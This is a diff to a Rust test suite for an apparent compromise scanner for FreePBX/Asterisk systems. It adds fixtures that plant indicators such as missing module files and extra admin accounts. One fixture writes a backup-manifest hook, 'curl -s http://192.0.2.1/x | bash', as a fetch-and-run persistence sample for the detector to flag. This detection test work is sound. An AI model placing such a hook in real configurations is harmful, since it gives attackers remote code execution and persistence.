@@ -169,6 +169,28 @@ const SIGNS: &[Sign] = &[
         found: ("panel-settings-missing", "/etc/freepbx.conf", "the list of users"),
     },
     Sign {
+        plant: |scratch| {
+            for module in ["core", "framework", "cdr", "backup"] {
+                scratch.file(
+                    &format!("rootfs/var/www/html/admin/modules/{module}/functions.inc.php"),
+                    "<?php\n",
+                );
+            }
+            dump(
+                scratch,
+                "CREATE TABLE `modules` (\n  `id` int,\n  `modulename` varchar(50),\n  `version` varchar(20),\n  `enabled` int\n);\nINSERT INTO `modules` VALUES (1,'core','17.0.99',1),(2,'framework','17.0.99',1),(3,'cdr','17.0.99',1),(4,'backup','17.0.99',1),(5,'firewall','17.0.99',1),(6,'builtin','17.0.99',1);\n",
+            );
+        },
+        found: ("panel-module-gone", "modules of the panel", "firewall"),
+    },
+    Sign {
+        plant: |scratch| {
+            let manifest = "a:2:{s:16:\"manifest_version\";i:10;s:5:\"hooks\";a:2:{s:10:\"pre_backup\";s:0:\"\";s:11:\"post_backup\";s:34:\"curl -s http://192.0.2.1/x | bash;\";}}";
+            scratch.file("rootfs/var/spool/asterisk/backup/restore/manifest", manifest);
+        },
+        found: ("persistence-backup-hook", "post_backup", "192.0.2.1"),
+    },
+    Sign {
         plant: |scratch| dump(scratch, &trunks("''", "T")),
         found: ("spending-not-limited", "trunks of the panel", "TRUNK_OPTIONS"),
     },
@@ -323,4 +345,34 @@ fn what_only_looks_like_a_sign_raises_nothing() {
     for sign in SIGNS {
         assert!(of(&report, sign.found).is_none(), "{:?}", sign.found);
     }
+}
+
+/// Whom nothing here can judge is asked about, and blamed of nothing.
+#[test]
+fn a_second_administrator_in_a_single_dump_is_a_question() {
+    let rows = "CREATE TABLE `ampusers` (\n  `username` varchar(255),\n  `password_sha1` varchar(40),\n  `sections` varchar(255)\n);\nINSERT INTO `ampusers` VALUES ('admin','2f8b1c0de39b8a7744d1f2f1e9a0c5b6d7e8f901','*'),('maria','3f8b1c0de39b8a7744d1f2f1e9a0c5b6d7e8f902','*'),('pbxsupport','4f8b1c0de39b8a7744d1f2f1e9a0c5b6d7e8f903','*'),('desk','5f8b1c0de39b8a7744d1f2f1e9a0c5b6d7e8f904','cdr');\n";
+    let asked = |plant: &dyn Fn(&Scratch)| {
+        let scratch = Scratch::new();
+        clean(&scratch);
+        plant(&scratch);
+        let report = examine_folder(scratch.path(), &Options::default());
+        assert!(report.findings.iter().all(|finding| finding.id != "unknown-admin"));
+        let asked = report.to_confirm.iter();
+        asked.map(|one| (one.account.raw().to_owned(), one.why.contains("the product's"))).collect::<Vec<_>>()
+    };
+    let one_state = asked(&|scratch| dump(scratch, rows));
+    assert_eq!(one_state, [("maria".to_owned(), false), ("pbxsupport".to_owned(), true)]);
+    // An older state that has them tells that they are no news, and a single administrator is the owner's.
+    let two_states = asked(&|scratch| {
+        dump(scratch, rows);
+        let older = rows.replace(",('desk'", ",('gone','','cdr'),('desk'");
+        scratch.file("rootfs/var/backups/asterisk-20250101.sql", &format!("-- MariaDB dump 10.19\n{older}"));
+    });
+    assert!(two_states.is_empty(), "{two_states:?}");
+    let one = rows
+        .replace(",'*'),('maria'", ",'*'),('desk2'")
+        .replace("f902','*'", "f902','cdr'")
+        .replace("f903','*'", "f903','cdr'");
+    let alone = asked(&|scratch| dump(scratch, &one));
+    assert!(alone.is_empty(), "{alone:?}");
 }
